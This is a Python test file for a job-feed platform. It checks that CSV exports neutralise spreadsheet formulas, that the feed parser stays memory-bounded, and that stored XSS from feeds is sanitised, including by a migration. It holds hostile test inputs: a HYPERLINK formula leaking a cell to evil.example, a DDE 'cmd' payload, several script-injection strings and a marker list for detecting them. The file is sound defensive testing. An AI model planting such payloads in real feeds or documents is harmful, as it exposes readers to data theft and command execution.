"""What the platform writes from what strangers feed it: spreadsheet cells, parser memory."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import tracemalloc
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from jobyard_libs.feeds.parser import iter_feed
from jobyard_worker.tasks.runners.export_jobs_csv import cell
from pymongo import MongoClient

from tests.support.feed_server import FeedServer
from tests.support.imports import wait_import
from tests.support.processes import bin_path
from tests.support.stack import Stack
from tests.support.tasks import wait_execution

HOSTILE_ITEM = """<item><title>=HYPERLINK("http://evil.example/?"&amp;A1,"Apply")</title>
<guid>hostile-1</guid><link>https://jobs.example/1</link>
<job_listing:company xmlns:job_listing="https://jobs.example">@SUM(1+1)</job_listing:company>
<job_listing:location xmlns:job_listing="https://jobs.example">-2+3</job_listing:location>
<job_listing:job_type xmlns:job_listing="https://jobs.example">+cmd|' /C calc'!A0</job_listing:job_type>
</item>"""


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Backend engineer", "Backend engineer"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value: str | None, written: str) -> None:
    assert cell(value) == written


@pytest.fixture
def hostile_feed() -> Iterator[FeedServer]:
    server = FeedServer()
    server.serve(
        "/hostile.xml",
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{HOSTILE_ITEM}</channel></rss>'.encode(),
    )
    yield server
    server.stop()


async def test_a_feed_cannot_plant_formulas_in_an_export(stack: Stack, hostile_feed: FeedServer) -> None:
    admin = stack.auth.admin_headers()
    url = f"{hostile_feed.base_url}/hostile.xml"
    async with httpx.AsyncClient(base_url=stack.api, timeout=30, headers=admin) as api:
        assert (await api.post("/api/v1/feed-sources", json={"url": url})).status_code == 201
        started = await api.post("/api/v1/imports", json={"feedUrls": [url]})
        assert started.status_code == 202, started.text
        [log_id] = started.json()["importLogIds"]
        assert (await wait_import(api, log_id))["status"] == "completed"
        export = await api.post(
            "/api/v1/tasks", json={"name": "e", "kind": "export-jobs-csv", "payload": {"feedUrl": url}}
        )
        done = await wait_execution(api, admin, export.json()["executionId"])
        assert done["result"]["rows"] == 1, done
        download = await api.get(f"/api/v1/executions/{done['id']}/artifact")
    [row] = list(csv.DictReader(io.StringIO(download.text)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Apply")'
    assert row["company"] == "'@SUM(1+1)"
    assert row["location"] == "'-2+3"
    assert row["jobType"] == "'+cmd|' /C calc'!A0"


def _peak_bytes(document: bytes) -> int:
    tracemalloc.start()
    try:
        for _ in iter_feed(io.BytesIO(document), "https://jobs.example/feed"):
            pass
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_elements_outside_items_do_not_pile_up_in_memory() -> None:
    items = "".join(f"<item><title>Job {i}</title><guid>g{i}</guid></item>" for i in range(100))
    padding = "<junk><deeper>padding text</deeper></junk>" * 100_000  # ~4 MB of elements
    plain = f"<rss><channel>{items}</channel></rss>".encode()
    padded = f"<rss><channel>{padding}{items}{padding}</channel></rss>".encode()
    assert _peak_bytes(padded) < 3 * _peak_bytes(plain) + 2_000_000  # not the ~100 MB a kept tree costs


XSS = (
    '<p onclick="steal()">Hi <script>alert(1)</script><img src=x onerror=alert(2)>'
    '<a href="javascript:alert(3)">there</a> <a href="https://jobs.example/apply">apply</a>'
    '<iframe src="//evil.example"></iframe><style>*{display:none}</style></p><ul><li>Python</li></ul>'
)
STORED_XSS = ("<script", "onerror", "onclick", "javascript:", "<iframe", "<style", "<img")


async def test_a_feed_cannot_plant_script_in_a_posting(stack: Stack, hostile_feed: FeedServer) -> None:
    """Stored XSS: what a feed says is sanitised once, at import; every API client gets safe
    HTML (formatting and http links kept) and the same text without markup."""
    item = (
        f"<item><title>Scripted</title><guid>xss-1</guid><description><![CDATA[{XSS}]]></description></item>"
    )
    url = hostile_feed.serve(
        "/xss.xml",
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{item}</channel></rss>'.encode(),
    )
    admin = stack.auth.admin_headers()
    async with httpx.AsyncClient(base_url=stack.api, timeout=30, headers=admin) as api:
        assert (await api.post("/api/v1/feed-sources", json={"url": url})).status_code == 201
        started = await api.post("/api/v1/imports", json={"feedUrls": [url]})
        assert started.status_code == 202, started.text
        [log_id] = started.json()["importLogIds"]
        log = await wait_import(api, log_id)
        assert log["status"] == "completed", log
        [job] = (await api.get("/api/v1/jobs", params={"feedUrl": url})).json()["items"]
        detail = (await api.get(f"/api/v1/jobs/{job['id']}")).json()
    html = detail["description"]
    assert not [marker for marker in STORED_XSS if marker in html.lower()], html
    assert '<a href="https://jobs.example/apply" rel="noopener noreferrer nofollow">apply</a>' in html
    assert "<li>Python</li>" in html
    assert detail["descriptionText"] == "Hi there apply Python"


def test_postings_stored_before_sanitising_are_made_safe_by_the_migration(stack: Stack) -> None:
    """The one-off `jobyard-scheduler migrate`: it runs once (later calls find it done and cost
    nothing), and changes nothing but the description."""
    client: MongoClient[dict[str, Any]] = MongoClient(stack.env["JOBYARD_MONGODB_URL"])
    jobs = client[stack.env["JOBYARD_MONGODB_DATABASE"]].jobs
    old = {"feedUrl": "https://old.example/feed", "externalId": "old-1", "title": "Old", "description": XSS}
    inserted = jobs.insert_one(dict(old)).inserted_id
    try:
        for expected in (1, 0):  # then nothing left to do
            command = [bin_path("jobyard-scheduler"), "migrate"]
            env = {**os.environ, **stack.env}
            ran = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60, check=True)
            assert json.loads(ran.stdout)["jobDescriptionsSanitized"] == expected
        stored = jobs.find_one({"_id": inserted})
        assert stored is not None and stored["title"] == "Old"
        assert not [marker for marker in STORED_XSS if marker in stored["description"].lower()]
        assert stored["descriptionText"] == "Hi there apply Python"
    finally:
        jobs.delete_one({"_id": inserted})
        client.close()
